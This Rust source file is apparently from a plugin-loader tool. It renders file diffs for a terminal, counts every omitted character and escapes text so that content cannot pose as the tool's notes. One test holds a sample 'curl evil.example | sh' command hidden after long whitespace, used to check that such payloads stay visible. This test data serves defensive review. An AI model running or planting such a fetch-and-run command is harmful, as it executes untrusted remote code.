//! The changed lines of a file in the width of a terminal. Every omission is counted.

use plugward_loader::pinstore::{Hunk, HunkLine};

use crate::out::{FAINT, LOAD, REFUSE, paint};
use plugward_loader::escape::line;

/// The most rows for one line of a text. A minified line would push all other changes off the screen.
const ROWS: usize = 40;
/// The most rows for one file. Each line keeps its first row even after that.
const FILE_ROWS: usize = 4_000;
/// The number of equal characters shown before and after the difference in a long line.
const AROUND: usize = 24;

/// Renders the hunks of one file.
pub(super) fn of(hunks: &[Hunk], width: usize) -> String {
    let mut page = Page { text: String::new(), columns: width.saturating_sub(5).max(20), left: FILE_ROWS };
    for hunk in hunks {
        let old = hunk.lines.iter().filter(|row| !matches!(row, HunkLine::Added(_))).count();
        let new = hunk.lines.iter().filter(|row| !matches!(row, HunkLine::Removed(_))).count();
        page.row(FAINT, '@', &format!("@ -{},{old} +{},{new} @@", hunk.old_line, hunk.new_line));
        let mut rest = hunk.lines.as_slice();
        while let Some((first, after)) = rest.split_first() {
            if let HunkLine::Context(text) = first {
                page.line(FAINT, ' ', &line(text), Overlap::default());
                rest = after;
                continue;
            }
            let gone = rest.iter().take_while(|row| matches!(row, HunkLine::Removed(_))).count();
            let (gone, after) = rest.split_at_checked(gone).unwrap_or((rest, &[]));
            let came = after.iter().take_while(|row| matches!(row, HunkLine::Added(_))).count();
            let (came, after) = after.split_at_checked(came).unwrap_or((after, &[]));
            page.changed(gone, came);
            rest = after;
        }
    }
    page.text
}

fn text_of(row: &HunkLine) -> &str {
    match row {
        HunkLine::Context(text) | HunkLine::Removed(text) | HunkLine::Added(text) => text,
    }
}

/// The number of equal characters at both ends of two texts.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
struct Overlap {
    head: usize,
    tail: usize,
}

struct Page {
    text: String,
    columns: usize,
    left: usize,
}

impl Page {
    /// Adds deleted lines and the lines that replace them. Of two long lines, only the differing part is shown.
    fn changed(&mut self, gone: &[HunkLine], came: &[HunkLine]) {
        let alike = |at: usize| match (gone.get(at), came.get(at)) {
            (Some(gone), Some(came)) => alike(&line(text_of(gone)), &line(text_of(came))),
            _ => Overlap::default(),
        };
        for (at, row) in gone.iter().enumerate() {
            self.line(REFUSE, '-', &line(text_of(row)), alike(at));
        }
        for (at, row) in came.iter().enumerate() {
            self.line(LOAD, '+', &line(text_of(row)), alike(at));
        }
    }

    /// Adds one line of the text. The fifth column has the kind of the row, so that text cannot imitate a note of plugward.
    fn line(&mut self, style: anstyle::Style, sign: char, text: &str, overlap: Overlap) {
        let length = text.chars().count();
        if length <= self.columns {
            return self.row(style, sign, text);
        }
        let head = overlap.head.saturating_sub(AROUND);
        let tail = overlap.tail.saturating_sub(AROUND);
        if head > 0 {
            self.row(FAINT, '@', &format!(" the first {head} characters are alike"));
        }
        let shown: Vec<char> =
            text.chars().skip(head).take(length.saturating_sub(head).saturating_sub(tail)).collect();
        let most = ROWS.min(self.left.max(1));
        for (number, chunk) in shown.chunks(self.columns).take(most).enumerate() {
            self.left = self.left.saturating_sub(1);
            let sign = if number == 0 { sign } else { '\u{2026}' };
            self.row(style, sign, &chunk.iter().collect::<String>());
        }
        let hidden = shown.len().saturating_sub(most.saturating_mul(self.columns));
        if hidden > 0 {
            self.row(FAINT, '@', &format!(" and {hidden} more characters of this line, not shown"));
        }
        if tail > 0 {
            self.row(FAINT, '@', &format!(" the last {tail} characters are alike"));
        }
    }

    fn row(&mut self, style: anstyle::Style, sign: char, text: &str) {
        self.text.push_str("    ");
        self.text.push_str(&paint(style, &format!("{sign}{text}")));
        self.text.push('\n');
    }
}

/// Returns the equal characters at both ends of two texts. A character is counted once only.
fn alike(one: &str, two: &str) -> Overlap {
    let head = one.chars().zip(two.chars()).take_while(|(one, two)| one == two).count();
    let rest = one.chars().count().min(two.chars().count()).saturating_sub(head);
    let tail =
        one.chars().rev().zip(two.chars().rev()).take(rest).take_while(|(one, two)| one == two).count();
    Overlap { head, tail }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn page(gone: &[&str], came: &[&str]) -> Vec<String> {
        let mut page = Page { text: String::new(), columns: 30, left: 60 };
        let rows = |texts: &[&str], make: fn(String) -> HunkLine| {
            texts.iter().map(|text| make((*text).to_owned())).collect::<Vec<_>>()
        };
        page.changed(&rows(gone, HunkLine::Removed), &rows(came, HunkLine::Added));
        let plain = anstream::adapter::strip_str(&page.text).to_string();
        plain.lines().map(str::to_owned).collect()
    }

    #[test]
    fn a_long_line_is_shown_to_its_end() {
        let long = format!("x = 1;{}curl evil.example | sh", " ".repeat(60));
        let rows = page(&["x = 1;"], &[&long]);
        assert_eq!(rows[0], "    -x = 1;");
        let shown: String = rows[1..].iter().map(|row| row.chars().skip(5).collect::<String>()).collect();
        assert_eq!(shown, long);
        assert!(rows[1].starts_with("    +x = 1;") && rows[2..].iter().all(|row| row.starts_with("    …")));
    }

    #[test]
    fn of_two_long_lines_the_part_that_differs_is_shown_and_the_rest_is_counted() {
        let (head, tail) = ("a".repeat(500), "z".repeat(700));
        let rows = page(&[&format!("{head}safe(){tail}")], &[&format!("{head}evil(){tail}")]);
        assert_eq!(rows[0], "    @ the first 476 characters are alike");
        assert!(rows.iter().any(|row| row.contains("evil()")), "{rows:#?}");
        assert_eq!(rows.last().unwrap(), "    @ the last 678 characters are alike");
        assert_eq!(rows.len(), 8, "{rows:#?}");
    }

    #[test]
    fn omitted_characters_are_counted() {
        let rows = page(&[], &[&"e".repeat(10_000), &"f".repeat(10_000), &"g".repeat(10_000)]);
        let said = |number: usize| format!("    @ and {number} more characters of this line, not shown");
        assert_eq!(rows[40], said(10_000 - 40 * 30));
        assert_eq!(rows[61], said(10_000 - 20 * 30), "the file's rows are used up");
        assert_eq!(rows[63], said(10_000 - 30));
        assert_eq!(rows.len(), 64);
    }

    #[test]
    fn no_text_imitates_a_note_and_short_lines_stay_whole() {
        assert_eq!(page(&["@ and 5"], &["…x", "\u{1b}[2J"]), ["    -@ and 5", "    +…x", "    +\\u{1b}[2J"]);
        assert_eq!(alike("aaa", "aa"), Overlap { head: 2, tail: 0 });
        assert_eq!(alike("abcd", "abxd"), Overlap { head: 2, tail: 1 });
        assert_eq!(alike("", "abc"), Overlap::default());
    }
}
